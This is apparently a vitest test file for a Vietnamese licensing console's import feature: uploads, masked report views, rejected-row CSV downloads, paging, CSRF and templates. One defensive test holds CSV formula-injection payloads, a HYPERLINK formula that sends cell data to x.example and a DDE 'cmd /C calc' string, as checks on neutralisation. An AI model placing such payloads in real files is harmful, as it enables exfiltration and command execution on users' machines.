import { afterEach, describe, expect, it } from "vitest";
import { sql } from "drizzle-orm";
import ExcelJS from "exceljs";
import { insertImport, replaceRejectedRows, updateImport, type StaffRole } from "@hccd/db";
import { LICENCE_COLUMNS } from "@hccd/shared";
import { twoAgencyCatalogue } from "../testing/fixtures.js";
import { createTestWorld, type TestWorld } from "../testing/world.js";
import { consoleLogin, consoleRequest } from "../testing/console.js";
import { createStaffUser, csrfTokenFor } from "../services/staff/staff-auth.js";
import { REPORT_PAGE_SIZE } from "./imports.js";

let w: TestWorld;
afterEach(async () => {
  await w?.close();
});

const PASSWORD = "mật-khẩu-đủ-dài-2026";
const HEADER = "Mã dịch vụ,Số giấy phép,Loại chủ thể,Tên tổ chức/cá nhân,Số CCCD/Mã số thuế,Số điện thoại,Ngày cấp,Ngày hết hạn,Mã xã/phường,Địa chỉ";
// Row 2 is good; row 3 is another agency's service; row 4 has three problems; row 5 has an ID
// number from a province that does not exist, and an address with a comma and a quote.
const CSV = `\uFEFF${HEADER}
tour-guide-card,HDV-001,Cá nhân,Lê Văn Hùng,072092004321,0912 345 678,01/03/2022,01/03/2027,25453,Phường Tân Ninh
petrol-retail-licence,XD-07,Tổ chức,Công ty TNHH Xăng dầu Tây Ninh,3901234567,0987654321,,2027-05-01,,
tour-guide-card,HDV-003,Ông,Nguyễn Văn A,,12345,,31/02/2027,,
tour-guide-card,HDV-004,Cá nhân,Trần Thị Bích,999092004321,0912 000 111,,2027-06-30,25453,"Số 1, đường ""Hoa Sữa"""
`;

async function world(env: Record<string, string> = {}) {
  w = await createTestWorld({ catalogue: twoAgencyCatalogue, env });
  return w;
}

function staff(role: StaffRole, username: string) {
  return createStaffUser(w.services, {
    username, displayName: `Cán bộ ${username}`, password: PASSWORD, role,
    agency: role === "department" ? "Sở Văn hóa, Thể thao và Du lịch" : null, wardCode: null,
  });
}

async function session(role: StaffRole, username: string) {
  await staff(role, username);
  return consoleLogin(w, username, PASSWORD);
}

/** The console's upload form as a browser sends it: multipart, with the CSRF field. */
function uploadForm(s: { cookie: string; token: string }, name: string, content: string | Uint8Array) {
  const form = new FormData();
  form.set("_csrf", csrfTokenFor(s.token));
  form.set("file", new File([typeof content === "string" ? content : new Blob([content as Uint8Array<ArrayBuffer>])], name, { type: "text/csv" }));
  return w.app.request("/staff/imports", { method: "POST", headers: { cookie: s.cookie, "sec-fetch-site": "same-origin" }, body: form });
}

async function uploadAndFinish(s: { cookie: string; token: string }, name = "vhttdl.csv", content: string | Uint8Array = CSV): Promise<string> {
  const res = await uploadForm(s, name, content);
  expect(res.status).toBe(303);
  const location = res.headers.get("location")!;
  expect(location).toMatch(/^\/staff\/imports\/[\w-]+$/);
  await w.jobs.idle();
  return location.split("/").pop()!;
}

const auditActions = async () => (await w.rows<{ action: string }>(sql`select action from audit_log where action like 'import.%' order by id`)).map((r) => r.action);

describe("the imports area of the console", () => {
  it("uploads a list through the form, then shows the counts and the row report with ID numbers and phones masked", async () => {
    await world();
    const officer = await session("department", "so-vhttdl");
    const id = await uploadAndFinish(officer);
    const res = await consoleRequest(w, `/staff/imports/${id}`, { cookie: officer.cookie });
    expect(res.status).toBe(200);
    const html = await res.text();
    expect(html).toContain('data-status="finished"');
    expect(html).toMatch(/data-testid="count-created">1</);
    expect(html).toMatch(/data-testid="count-rejected">3</);
    // Finished: no longer refreshing itself.
    expect(html).not.toContain("data-refresh");
    // The report lists each problem by row and column (as the officer's Vietnamese labels).
    expect([...html.matchAll(/<tr data-row="(\d+)">/g)].map((m) => Number(m[1]))).toEqual([3, 4, 4, 4, 5]);
    expect(html).toContain("Số CCCD/Mã số thuế");
    // Row 5's ID number is shown only by its last 3 digits; nowhere on the page in clear.
    expect(html).toContain("*********321");
    // The importer's reasons in the officer's language.
    expect(html).toContain("số CCCD có mã tỉnh (3 chữ số đầu) không tồn tại (001–096)");
    expect(html).not.toContain("999092004321");
    expect(html).toContain('href="/staff/imports/' + id + '/rejected.csv"');
    // Viewing a report of personal data is audited.
    expect(await auditActions()).toEqual(["import.started", "import.report_read"]);
  });

  it("downloads the rejected rows as a CSV to fix and upload again: BOM, the file's columns, a reason column, correct quoting", async () => {
    await world();
    const officer = await session("department", "so-vhttdl");
    const id = await uploadAndFinish(officer);
    const res = await consoleRequest(w, `/staff/imports/${id}/rejected.csv`, { cookie: officer.cookie });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toBe('attachment; filename="vhttdl-dong-bi-tu-choi.csv"');
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(bytes.slice(3));
    const lines = text.split("\r\n");
    expect(lines[0]).toBe(`${HEADER},Lý do`);
    expect(lines).toHaveLength(5); // header, rows 3, 4, 5, and the final line end
    expect(lines[1]).toMatch(/^petrol-retail-licence,XD-07,Tổ chức,Công ty TNHH Xăng dầu Tây Ninh,3901234567,0987654321,,2027-05-01,,,"Mã dịch vụ: là dịch vụ của Sở Công Thương, không thuộc phạm vi của Sở Văn hóa, Thể thao và Du lịch"$/);
    // Several problems of one row go in one line, each named by its column.
    expect(lines[2]).toMatch(/^tour-guide-card,HDV-003,Ông,Nguyễn Văn A,,12345,,31\/02\/2027,,,"Loại chủ thể: phải là “Cá nhân” hoặc “Tổ chức”; Số điện thoại: không phải số di động Việt Nam \(ví dụ 0912345678 hoặc \+84 912 345 678\); Ngày hết hạn: không phải ngày có thật trên lịch"$/);
    // As uploaded (unmasked: it is the officer's own file), the address quoted with its quotes doubled.
    expect(lines[3]).toContain('tour-guide-card,HDV-004,Cá nhân,Trần Thị Bích,999092004321,0912 000 111,,2027-06-30,25453,"Số 1, đường ""Hoa Sữa""",');
    expect(await auditActions()).toEqual(["import.started", "import.rejected_downloaded"]);

    // The download is a file the importer reads again (the reason column is an unknown header, ignored):
    // uploaded unchanged, the same rows are rejected again and nothing else is touched.
    const again = await uploadAndFinish(officer, "sua-lai.csv", text);
    const detail = await (await w.call("GET", `/api/staff/imports/${again}`, { token: officer.token })).json();
    expect(detail).toMatchObject({ status: "finished", rows: 3, created: 0, rejected: 3 });
  });

  // Finding 5 (issue 13): a rejected cell starting with = + - @ ran as a formula when rejected.csv
  // was opened in Excel. Phones start with + and negative numbers with -, so the importer reads
  // the neutralising ' back: fixing and re-uploading the file changes no value.
  it("writes rejected cells that a spreadsheet would run neutralised, and reads them back as they were", async () => {
    await world();
    const officer = await session("department", "so-vhttdl");
    const dangerous = `${HEADER}
tour-guide-card,"=HYPERLINK(""http://x.example/?""&A1)",Cá nhân,Lê Văn Hùng,,+84 12345,,2027-01-01,,@SUM(1+1)
tour-guide-card,-2+3+cmd|' /C calc'!A0,Ông,Trần Thị Mai,,+84 912 345 678,,2027-01-01,,"	=1+1"
tour-guide-card,HDV-3,Cá nhân,=1+1,,0912345678,,-1,,'=quote
`;
    const first = await uploadAndFinish(officer, "nguy-hiem.csv", dangerous);
    const download = await (await consoleRequest(w, `/staff/imports/${first}/rejected.csv`, { cookie: officer.cookie })).text();
    const cells = download.split("\r\n").slice(1, -1).flatMap((l) => l.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/));
    // No cell of the file starts with a character a spreadsheet reads as the start of a formula.
    expect(cells.filter((c) => /^"?[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(download).toContain("'=HYPERLINK(");
    expect(download).toContain("'+84 912 345 678");
    // A leading ' in the upload is the spreadsheet user's own "keep this as text" mark: read as such.
    expect(download).toContain(",'=quote,");

    const again = await uploadAndFinish(officer, "nguy-hiem-sua.csv", download);
    const problems = async (id: string) => {
      const detail = (await (await w.call("GET", `/api/staff/imports/${id}`, { token: officer.token })).json()) as { report: { column: string; reason: string; values: Record<string, string> }[] };
      return detail.report.map(({ column, reason, values }) => ({ column, reason, values }));
    };
    // The same rejections, for the same values as first uploaded.
    const before = await problems(first);
    expect(await problems(again)).toEqual(before);
    expect(before.map((p) => p.values.document_no)).toContain("-2+3+cmd|' /C calc'!A0");
    expect(before.find((p) => p.values.document_no === "HDV-3")?.values.address).toBe("=quote");
  });

  it("serves the same file on the staff API, in English headers on request", async () => {
    await world();
    const officer = await session("department", "so-vhttdl");
    const id = await uploadAndFinish(officer);
    const vi = await w.call("GET", `/api/staff/imports/${id}/rejected.csv`, { token: officer.token });
    const consoleFile = await consoleRequest(w, `/staff/imports/${id}/rejected.csv`, { cookie: officer.cookie });
    expect(await vi.text()).toBe(await consoleFile.text());
    // (Response.text() drops the BOM, as a text editor hides it; the bytes are checked above.)
    const en = await (await w.call("GET", `/api/staff/imports/${id}/rejected.csv?lang=en`, { token: officer.token })).text();
    expect(en.split("\r\n")[0]).toBe("service_code,document_no,holder_kind,holder_name,holder_id,phone,issued_on,expires_on,ward_code,address,reason");
    expect(en).toContain('"holder_kind: must be person or organization (Cá nhân / Tổ chức); phone:');
  });

  it("shows a running import's progress panel refreshing itself, without reading (or auditing) the report", async () => {
    await world();
    const officer = await session("department", "so-vhttdl");
    const me = await w.one<{ id: string }>(sql`select id from staff_users where username = 'so-vhttdl'`);
    await insertImport(w.handle.db, { id: "imp-running", fileName: "lon.csv", format: "csv", importedBy: me!.id, startedAt: w.clock.now(), status: "running" });
    await updateImport(w.handle.db, "imp-running", { rows: 42_000 });
    const html = await (await consoleRequest(w, "/staff/imports/imp-running", { cookie: officer.cookie })).text();
    expect(html).toMatch(/id="import-progress" data-testid="import-progress" data-refresh="\d+"/);
    expect(html).toContain("42000");
    expect(html).not.toContain('data-testid="import-report"');
    expect(await auditActions()).toEqual([]);
  });

  it(`pages a long report ${REPORT_PAGE_SIZE} rejected rows at a time`, async () => {
    await world();
    const admin = await session("admin", "quan-tri");
    const me = await w.one<{ id: string }>(sql`select id from staff_users where username = 'quan-tri'`);
    await insertImport(w.handle.db, { id: "imp-big", fileName: "lon.csv", format: "csv", importedBy: me!.id, startedAt: w.clock.now(), status: "running" });
    const rejected = Array.from({ length: 250 }, (_, i) => ({ row: i + 2, values: { service_code: "tour-guide-card", expires_on: "" }, truncated: {}, problems: [{ column: "expires_on", reason: "is required" }] }));
    await replaceRejectedRows(w.handle.db, "imp-big", rejected);
    await updateImport(w.handle.db, "imp-big", { status: "finished", finishedAt: w.clock.now(), rows: 250, rejected: 250, problems: 250 });
    const rowsOn = async (page: number) => {
      const html = await (await consoleRequest(w, `/staff/imports/imp-big?page=${page}`, { cookie: admin.cookie })).text();
      return { rows: [...html.matchAll(/<tr data-row="(\d+)">/g)].map((m) => Number(m[1])), next: html.includes('data-testid="report-next"'), previous: html.includes('data-testid="report-previous"') };
    };
    const first = await rowsOn(1);
    expect([first.rows.length, first.rows[0], first.next, first.previous]).toEqual([100, 2, true, false]);
    const last = await rowsOn(3);
    expect([last.rows.length, last.rows[0], last.next, last.previous]).toEqual([50, 202, false, true]);
    // A page past the end shows the last one rather than nothing.
    expect((await rowsOn(99)).rows).toEqual(last.rows);
  });

  it("says when the report was cut and how many rows it does not keep, counts every problem by column and reason, and marks a cut value", async () => {
    await world();
    const officer = await session("department", "so-vhttdl");
    const long = `tour-guide-card,HDV-L,Cá nhân,Lê Văn Hùng,,0912345678,,2027-03-01,25453,${"Ấp Trường Đổi ".repeat(100)}`;
    const badPhones = Array.from({ length: 1200 }, (_, i) => `tour-guide-card,HDV-P${i},Cá nhân,Lê Văn Hùng,,12345,,2027-03-01,,`);
    const id = await uploadAndFinish(officer, "nhieu-loi.csv", `${HEADER}\n${long}\n${badPhones.join("\n")}\n`);
    const html = await (await consoleRequest(w, `/staff/imports/${id}`, { cookie: officer.cookie })).text();
    expect(html).toMatch(/data-testid="count-rejected">1201</);
    expect(html).toContain("Chỉ giữ lại chi tiết của 1000 dòng bị từ chối đầu tiên trong tổng số 1201 dòng; 201 dòng còn lại không được lưu.");
    expect(html).toContain("Tệp gồm 1000 dòng bị từ chối đầu tiên (201 dòng còn lại không được lưu nên không có trong tệp)");
    // Row 2's address (1,400 characters) is shown as the reader cut it, saying so.
    expect(html).toMatch(/<tr data-row="2">.*đã cắt bớt; giá trị gốc dài 1400 ký tự/s);
    const counts = /<table data-testid="problem-counts">(.*?)<\/table>/s.exec(html)?.[1] ?? "";
    expect(counts).toMatch(/Số điện thoại.*không phải số di động Việt Nam.*1200/s);
    expect(counts).toMatch(/Địa chỉ.*dài 1400 ký tự, quá 1000 ký tự một ô được phép: đã cắt bớt.*1/s);
    expect(html).toContain("Trang 1/10");
  });

  it("refuses a file over IMPORT_MAX_BYTES with a clear message, and a wrong kind of file, in the officer's language", async () => {
    await world({ IMPORT_MAX_BYTES: "2048" });
    const officer = await session("department", "so-vhttdl");
    const big = await uploadForm(officer, "lon.csv", `${HEADER}\n${"tour-guide-card,HDV-1,Cá nhân,A,,,,2027-01-01,,\n".repeat(100)}`);
    expect(big.status).toBe(413);
    const bigHtml = await big.text();
    expect(bigHtml).toContain("Tệp lớn hơn 2 KB");
    expect(bigHtml).toContain('data-testid="import-form"');
    const pdf = await uploadForm(officer, "danh-sach.pdf", "%PDF-1.4");
    expect(pdf.status).toBe(422);
    expect(await pdf.text()).toContain("Tệp phải là .csv hoặc .xlsx");
    const fake = await uploadForm(officer, "danh-sach.xlsx", "không phải zip");
    expect(fake.status).toBe(422);
    expect(await fake.text()).toContain("không phải bảng tính Excel");
    expect(await w.one(sql`select count(*) as n from imports`)).toEqual({ n: 0 });
  });

  // Finding 11 (issue 13): a fake .xlsx failed with "FILE_ENDED", a huge one with "Invalid string
  // length"; a header problem was English only. The officer reads what is wrong and what to do.
  it("says in the officer's language why a file was refused, what its header lacks, and what it did not import", async () => {
    await world();
    const officer = await session("department", "so-vhttdl");
    const page = async (id: string) => (await consoleRequest(w, `/staff/imports/${id}`, { cookie: officer.cookie })).text();
    const fakeXlsx = new Uint8Array([0x50, 0x4b, 0x03, 0x04, ...new TextEncoder().encode("không phải bảng tính, chỉ giống ở hai byte đầu")]);
    const fake = await page(await uploadAndFinish(officer, "gia.xlsx", fakeXlsx));
    expect(fake).toContain('data-status="failed"');
    expect(fake).toContain("Không nhập được tệp: tệp bị hỏng hoặc không đầy đủ (tải lên bị gián đoạn?): vui lòng mở bằng Excel, lưu lại rồi tải lên lại");
    expect(fake).not.toMatch(/FILE_ENDED|invalid signature/);

    const typo = await page(await uploadAndFinish(officer, "sai-tieu-de.csv", "Mã dịch vụ,Số giấy phép,Loại chủ thể,Tên tổ chức/cá nhân,So dien thoa\ntour-guide-card,HDV-1,Cá nhân,Lê Văn Hùng,0912345678\n"));
    expect(typo).toContain("Không nhập được tệp: dòng tiêu đề không theo mẫu danh sách");
    expect(typo).toContain("cột “So dien thoa” không có trong mẫu danh sách: nếu đó là cột “Số điện thoại” (phone), vui lòng đổi tên cột cho đúng rồi tải lên lại");
    expect(typo).toContain("thiếu cột bắt buộc (tiêu đề “expires_on” hoặc “Ngày hết hạn”)");

    const noted = await page(await uploadAndFinish(officer, "ghi-chu.csv", `${HEADER},Ghi chú\ntour-guide-card,HDV-009,Cá nhân,Lê Văn Hùng,,0912345678,,2027-03-01,,,đã gọi\n`));
    expect(noted).toContain('data-status="finished"');
    expect(noted).toMatch(/<td>Cả tệp<\/td>\s*<td><\/td>\s*<td>cột “Ghi chú” không có trong mẫu danh sách: các giá trị của cột này không được nhập<\/td>/);
    expect(noted).toMatch(/data-testid="count-rejected">0</);

    // An old .xls named .csv is refused at once, saying what it is.
    const xls = await uploadForm(officer, "danh-sach.csv", new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]));
    expect(xls.status).toBe(422);
    expect(await xls.text()).toContain("tệp là bảng tính Excel cũ (.xls) hoặc có đặt mật khẩu");
  });

  it("refuses an upload form without the CSRF token", async () => {
    await world();
    const officer = await session("department", "so-vhttdl");
    const form = new FormData();
    form.set("file", new File([CSV], "a.csv", { type: "text/csv" }));
    const res = await w.app.request("/staff/imports", { method: "POST", headers: { cookie: officer.cookie, "sec-fetch-site": "same-origin" }, body: form });
    expect(res.status).toBe(403);
    expect(await w.one(sql`select count(*) as n from imports`)).toEqual({ n: 0 });
  });

  it("shows a department officer only their department's imports: an admin's is not found, nor its rejected rows", async () => {
    await world();
    const admin = await session("admin", "quan-tri");
    const officer = await session("department", "so-vhttdl");
    const adminImport = await uploadAndFinish(admin, "toan-tinh.csv");
    const mine = await uploadAndFinish(officer, "cua-toi.csv");
    const list = await (await consoleRequest(w, "/staff/imports", { cookie: officer.cookie })).text();
    expect(list).toContain("cua-toi.csv");
    expect(list).not.toContain("toan-tinh.csv");
    expect((await consoleRequest(w, `/staff/imports/${adminImport}`, { cookie: officer.cookie })).status).toBe(404);
    expect((await consoleRequest(w, `/staff/imports/${adminImport}/rejected.csv`, { cookie: officer.cookie })).status).toBe(404);
    const adminList = await (await consoleRequest(w, "/staff/imports", { cookie: admin.cookie })).text();
    expect(adminList).toContain("toan-tinh.csv");
    expect(adminList).toContain(`/staff/imports/${mine}`);
  });
});

// Newcomer friction (issue 13): the import page did not say which columns a list has, which are
// required, which service codes exist, nor offer a file to start from.
describe("the import page's help and templates", () => {
  it("lists every column (label and key, required or not) and the service codes the officer may import", async () => {
    await world();
    const officer = await session("department", "so-vhttdl");
    const html = await (await consoleRequest(w, "/staff/imports", { cookie: officer.cookie })).text();
    const columns = html.slice(html.indexOf('data-testid="import-columns"'));
    for (const c of LICENCE_COLUMNS) {
      expect(columns).toMatch(new RegExp(`<th scope="row">${c.label}</th>\\s*<td><code>${c.key}</code></td>\\s*<td>${c.required ? "Bắt buộc" : "Không bắt buộc"}</td>`));
    }
    const services = html.slice(html.indexOf('data-testid="import-services"'));
    expect(services).toContain("<code>tour-guide-card</code>");
    expect(services).toContain("thẻ hướng dẫn viên du lịch");
    // Another agency's service is not the officer's to import.
    expect(services).not.toContain("petrol-retail-licence");
    expect(html).toContain('href="/staff/imports/template.xlsx"');
    expect(html).toContain('href="/staff/imports/template.csv"');
    const admin = await session("admin", "quan-tri");
    const all = await (await consoleRequest(w, "/staff/imports", { cookie: admin.cookie })).text();
    expect(all.slice(all.indexOf('data-testid="import-services"'))).toContain("<code>petrol-retail-licence</code>");
  });

  it("offers a CSV template that imports cleanly once a row is added", async () => {
    await world();
    const officer = await session("department", "so-vhttdl");
    const res = await consoleRequest(w, "/staff/imports/template.csv", { cookie: officer.cookie });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toBe('attachment; filename="mau-danh-sach-giay-phep.csv"');
    const template = new TextDecoder("utf-8", { ignoreBOM: true }).decode(new Uint8Array(await res.arrayBuffer()));
    // The header row only: an example row left in place would be imported as a real document.
    expect(template).toBe(`\uFEFF${HEADER}\r\n`);
    const id = await uploadAndFinish(officer, "tu-mau.csv", `${template}tour-guide-card,HDV-777,Cá nhân,Lê Văn Hùng,072092004321,0912345678,01/03/2022,01/03/2027,25453,"Số 12, đường 30/4"\r\n`);
    const detail = await (await w.call("GET", `/api/staff/imports/${id}`, { token: officer.token })).json();
    expect(detail).toMatchObject({ status: "finished", created: 1, rejected: 0, report: [] });
  });

  it("offers an .xlsx template whose ID, phone and ward columns keep their leading zeros, and which imports cleanly once filled", async () => {
    await world();
    const officer = await session("department", "so-vhttdl");
    const res = await consoleRequest(w, "/staff/imports/template.xlsx", { cookie: officer.cookie });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
    expect(res.headers.get("content-disposition")).toBe('attachment; filename="mau-danh-sach-giay-phep.xlsx"');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(await res.arrayBuffer());
    expect(wb.worksheets).toHaveLength(1);
    const sheet = wb.worksheets[0]!;
    expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual(HEADER.split(","));
    expect(sheet.rowCount).toBe(1);
    const col = (key: string) => LICENCE_COLUMNS.findIndex((c) => c.key === key) + 1;
    for (const key of ["document_no", "holder_id", "phone", "ward_code"]) expect(sheet.getColumn(col(key)).numFmt, key).toBe("@");
    expect(sheet.getColumn(col("expires_on")).numFmt).toBe("dd/mm/yyyy");
    expect(String(sheet.getCell(1, col("holder_id")).note)).toContain("12 chữ số");
    // Filled as an officer types into it: text where the column is text, dates as dates.
    sheet.addRow(["tour-guide-card", "HDV-778", "Cá nhân", "Trần Thị Mai", "072092004321", "0912345678", new Date(Date.UTC(2022, 2, 1)), new Date(Date.UTC(2027, 2, 1)), "25453", "Số 12, đường 30/4"]);
    const filled = new Uint8Array(await wb.xlsx.writeBuffer());
    const id = await uploadAndFinish(officer, "tu-mau.xlsx", filled);
    const detail = await (await w.call("GET", `/api/staff/imports/${id}`, { token: officer.token })).json();
    expect(detail).toMatchObject({ status: "finished", created: 1, rejected: 0, report: [] });
    expect(await w.one(sql`select holder_id, phone, expires_on from documents`)).toEqual({ holder_id: "072092004321", phone: "84912345678", expires_on: "2027-03-01" });
  });
});
